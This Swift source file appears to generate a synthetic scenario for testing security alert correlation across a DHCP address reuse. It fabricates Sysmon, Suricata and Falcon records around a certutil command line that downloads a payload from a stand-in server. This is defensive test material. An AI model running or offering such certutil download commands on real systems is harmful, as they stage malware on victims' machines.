/// Scenario 5: ws-carol holds 10.0.1.77 in the morning and is attacked (a certutil download seen by
/// the EDR and the network sensor); in the afternoon DHCP gives 10.0.1.77 to ws-dave, and an
/// unrelated low alert on that address must not join carol's incident.
struct DHCPReuseScenario {
    static let sharedIP = "10.0.1.77"
    static let carolAfternoonIP = "10.0.1.93"
    static let downloadServer = "198.51.100.200"

    struct Result {
        var attack: AttackTruth
        var laterAlert: RecordReference
        var bindingEvidence: [RecordReference]
    }

    /// `morning` is when carol's incident starts; `afternoon` when dave holds the address.
    func write(_ context: ScenarioContext, id: String, morning: Int64, afternoon: Int64) -> Result {
        let company = context.company
        let carolHost = company.workstation(of: "carol")
        let daveHost = company.workstation(of: "dave")
        let carol = company.employee("carol")
        let dave = company.employee("dave")
        let seconds: Int64 = 1_000_000
        var log = AttackLog()
        var evidence: [RecordReference] = []

        // The morning binding shows in the attack's own records (Sysmon host.ip and SourceIp,
        // Falcon LocalIP); no separate record near the attack, so the truth stays exact.
        log.step("On ws-carol (\(Self.sharedIP) this morning) certutil downloads a payload from \(Self.downloadServer).")
        let user = context.domainUser("carol")
        let cmd = context.process(on: carolHost, image: "C:\\Windows\\System32\\cmd.exe", commandLine: "\"C:\\Windows\\system32\\cmd.exe\"", user: user)
        let certutil = context.process(on: carolHost, image: "C:\\Windows\\System32\\certutil.exe",
                                       commandLine: "certutil.exe -urlcache -split -f http://\(Self.downloadServer)/update.txt C:\\Users\\carol\\AppData\\Local\\Temp\\update.txt",
                                       user: user)
        var t = morning
        log.add(context.sysmon(carolHost, ip: Self.sharedIP, at: t) { SysmonRecords.processCreate(certutil, parent: cmd, host: $0, recordID: $1, time: morning) })
        t += 1 * seconds
        let port = context.ephemeralPort()
        let connectTime = t
        log.add(context.sysmon(carolHost, ip: Self.sharedIP, at: t) {
            SysmonRecords.networkConnect(certutil, .init(sourceIP: Self.sharedIP, sourcePort: port, destinationIP: Self.downloadServer,
                                                         destinationPort: 80), host: $0, recordID: $1, time: connectTime)
        })
        let tuple = SuricataRecords.Tuple(flowID: context.flowID(), sourceIP: Self.sharedIP, sourcePort: port,
                                          destinationIP: Self.downloadServer, destinationPort: 80)
        let request = SuricataRecords.HTTP(hostname: Self.downloadServer, url: "/update.txt", userAgent: "Microsoft-CryptoAPI/10.0",
                                           length: 73_216, contentType: "text/plain")
        log.add(context.emit(.suricata, at: t + 200_000, SuricataRecords.http(tuple, request, time: t + 200_000)))
        log.step("The network sensor flags the CryptoAPI download and Falcon flags certutil on ws-carol.")
        log.detection(context.emit(.suricata, at: t + 210_000, SuricataRecords.alert(.init(
            id: 2_039_414, revision: 2, text: "ET MALWARE Possible Payload Download via Certutil (Microsoft-CryptoAPI UA)",
            category: "A Network Trojan was detected", severity: 1, appProto: "http",
            metadata: [("mitre_technique_id", ["T1105"]), ("signature_severity", ["Major"])]),
            tuple, time: t + 210_000, http: request)))
        log.add(context.emit(.suricata, at: t + 2 * seconds, SuricataRecords.flow(tuple, .init(
            appProto: "http", packetsOut: 12, packetsIn: 58, bytesOut: 1_204, bytesIn: 76_880, seconds: 2, alerted: true), time: t + 2 * seconds)))
        t += 30 * seconds
        log.detection(context.emit(.falcon, at: t, FalconRecords.detection(.init(
            name: "IngressToolTransfer", description: "Certutil was used to download a file from a remote host, a common way to stage payloads.",
            severity: 4, tactic: "Command and Control", tacticID: "TA0011", technique: "Ingress Tool Transfer", techniqueID: "T1105",
            objective: "Contact Controlled Systems", process: certutil, parent: cmd),
            machine: carolHost, ip: Self.sharedIP, customerID: company.falconCustomerID, domain: company.netbios,
            offset: context.nextFalconOffset(), detectionNumber: context.nextDetectionNumber(), time: t)))

        // Afternoon: carol's machine has a new lease; dave's machine holds .77 and shows it.
        let carolLogon = afternoon - 50 * 60 * seconds
        evidence.append(context.sysmon(company.domainController, at: carolLogon) {
            SysmonRecords.logon(.init(user: "carol", domain: company.netbios, userSID: carol.sid, sourceIP: Self.carolAfternoonIP,
                                      sourcePort: 51_870, workstation: "WS-CAROL", logonType: 3, logonID: "0x\(context.random.hex(7))",
                                      kerberos: true), host: $0, recordID: $1, time: carolLogon)
        })
        let daveLogon = afternoon - 30 * 60 * seconds
        evidence.append(context.sysmon(company.domainController, at: daveLogon) {
            SysmonRecords.logon(.init(user: "dave", domain: company.netbios, userSID: dave.sid, sourceIP: Self.sharedIP,
                                      sourcePort: 50_244, workstation: "WS-DAVE", logonType: 3, logonID: "0x\(context.random.hex(7))",
                                      kerberos: true), host: $0, recordID: $1, time: daveLogon)
        })
        let daveUser = context.domainUser("dave")
        let explorer = context.process(on: daveHost, image: "C:\\Windows\\explorer.exe", commandLine: "C:\\Windows\\Explorer.EXE", user: daveUser)
        let dropbox = context.process(on: daveHost, image: "C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe",
                                      commandLine: "\"C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe\" /systemstartup", user: daveUser)
        let dropboxStart = afternoon - 20 * 60 * seconds
        evidence.append(context.sysmon(daveHost, ip: Self.sharedIP, at: dropboxStart) {
            SysmonRecords.processCreate(dropbox, parent: explorer, host: $0, recordID: $1, time: dropboxStart)
        })
        let dropboxPort = context.ephemeralPort()
        let dropboxConnect = afternoon - 2 * seconds
        evidence.append(context.sysmon(daveHost, ip: Self.sharedIP, at: dropboxConnect) {
            SysmonRecords.networkConnect(dropbox, .init(sourceIP: Self.sharedIP, sourcePort: dropboxPort, destinationIP: "162.125.6.18",
                                                        destinationPort: 443, destinationHostname: "client.dropbox.com"),
                                         host: $0, recordID: $1, time: dropboxConnect)
        })
        let laterTuple = SuricataRecords.Tuple(flowID: context.flowID(), sourceIP: Self.sharedIP, sourcePort: dropboxPort,
                                               destinationIP: "162.125.6.18", destinationPort: 443)
        let laterAlert = context.emit(.suricata, at: afternoon, SuricataRecords.alert(.init(
            id: 2_012_647, revision: 4, text: "ET POLICY Dropbox.com Offsite File Backup in Use",
            category: "Potential Corporate Privacy Violation", severity: 3, appProto: "tls"),
            laterTuple, time: afternoon, sni: "client.dropbox.com"))

        let attack = AttackTruth(
            id: id, kind: .dhcpReuse, tenant: context.tenant,
            summary: "certutil payload download on ws-carol while it held \(Self.sharedIP)",
            steps: log.steps, detections: log.detections, layers: [.endpoint, .network],
            titleFragments: ["certutil"], minimumSeverity: .medium,
            keyEntities: ["ws-carol", Self.sharedIP, Self.downloadServer])
        return Result(attack: attack, laterAlert: laterAlert, bindingEvidence: evidence)
    }
}
